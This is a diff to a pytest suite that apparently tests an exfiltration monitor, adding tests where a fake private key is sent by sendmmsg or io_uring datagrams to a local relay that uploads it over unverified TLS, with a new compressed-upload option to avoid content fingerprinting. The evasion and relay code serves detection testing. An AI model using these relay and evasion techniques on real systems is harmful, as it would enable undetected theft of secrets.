@@ -1226,7 +1226,7 @@ def test_quic_twin_is_silent(monitor, standin, fake_home, tmp_path):
 # reach the reader, by the datagram's sender. A relay in another session receives and uploads.
 
 DGRAM_RELAY = """
-import os, socket, ssl, sys
+import os, socket, ssl, sys, zlib
 
 def post(data):
     c = ssl._create_unverified_context()
@@ -1251,6 +1251,8 @@ except socket.timeout:
     pass
 if action == "upload":
     post(data)
+elif action == "upload-z":  # compressed: no fingerprint of what it received in the post
+    post(zlib.compress(data))
 """
 
 
@@ -1320,6 +1322,61 @@ def test_unconnected_datagrams_from_a_key_reader_to_another_receiver_are_silent(
     # The relay's upload stays silent. (socat sending the key itself to a UDP port has a network
     # flow of its own, an unnamed upload to 127.0.0.1: that alert is not the relay's.)
     assert_silent([r for r in monitor.records() if get(r, "destination.port") == HTTPS_PORT])
+
+
+# Each message of one sendmmsg, and each io_uring SENDMSG, is counted on its own destination: the
+# first datagram to a harmless receiver and the rest to the relay do not hide the relay (on the
+# old model every message of a sendmmsg was taken as sent where the first went, and an io_uring
+# SENDMSG named no destination: both attacks passed unseen).
+DGRAM_SEND = paths.TOOLS_DIR / "dgram_send.py"
+
+
+@pytest.fixture(scope="module")
+def uring_dgram(c_tool):
+    return c_tool("uring_dgram", "-luring")
+
+
+def dgram_relay_run(monitor, standin, fake_home, tmp_path, name, send, expect):
+    """A sink that keeps what it receives and a relay that uploads it (compressed), then `send`
+    (shell text, formatted with {sink} and {relay}, the two ports)."""
+    relay = dgram_relay(tmp_path)
+    sink, up = free_port(), free_port()
+    shell = (start_relay(relay, "udp", sink, tmp_path / "ready-sink", "keep")
+             + start_relay(relay, "udp", up, tmp_path / "ready-up", "upload")
+             + f"setsid {send.format(sink=sink, relay=up)}; wait")
+    if expect == "alert":
+        return dataflow_attack(monitor, standin, fake_home, tmp_path, name, shell)
+    silent_run(monitor, standin, fake_home, tmp_path, name, shell)
+
+
+def test_sendmmsg_with_its_first_datagram_elsewhere(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    dgram_relay_run(monitor, standin, fake_home, tmp_path, "sendmmsg-addressed",
+                    f"{paths.PYTHON} {DGRAM_SEND} {{sink}} {{relay}} {key}", "alert")
+    assert_no_secret(monitor, key)
+
+
+def test_sendmmsg_of_the_key_to_a_receiver_that_keeps_it_is_silent(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    report = tmp_path / "report.txt"
+    report.write_text("build 1234 passed\n" * 100)
+    dgram_relay_run(monitor, standin, fake_home, tmp_path, "sendmmsg-addressed-twin",
+                    f"{paths.PYTHON} {DGRAM_SEND} {{sink}} {{sink}} {key}; "
+                    f"{paths.PYTHON} {DGRAM_SEND} {{sink}} {{relay}} {report}", "silent")
+
+
+def test_io_uring_sendmsg_with_an_address_to_a_relay(monitor, standin, fake_home, tmp_path, uring_dgram):
+    key = key_of(fake_home)
+    dgram_relay_run(monitor, standin, fake_home, tmp_path, "uring-sendmsg",
+                    f"{uring_dgram} {{sink}} /etc/os-release; {uring_dgram} {{relay}} {key}", "alert")
+    assert_no_secret(monitor, key)
+
+
+def test_io_uring_sendmsg_of_a_report_to_a_relay_is_silent(monitor, standin, fake_home, tmp_path, uring_dgram):
+    report = tmp_path / "report.txt"
+    report.write_text("build 1234 passed\n" * 100)
+    dgram_relay_run(monitor, standin, fake_home, tmp_path, "uring-sendmsg-twin",
+                    f"{uring_dgram} {{sink}} /etc/os-release; {uring_dgram} {{relay}} {report}", "silent")
 
 
 # --- Class: a secret cut across TLS writes -------------------------------------------------------
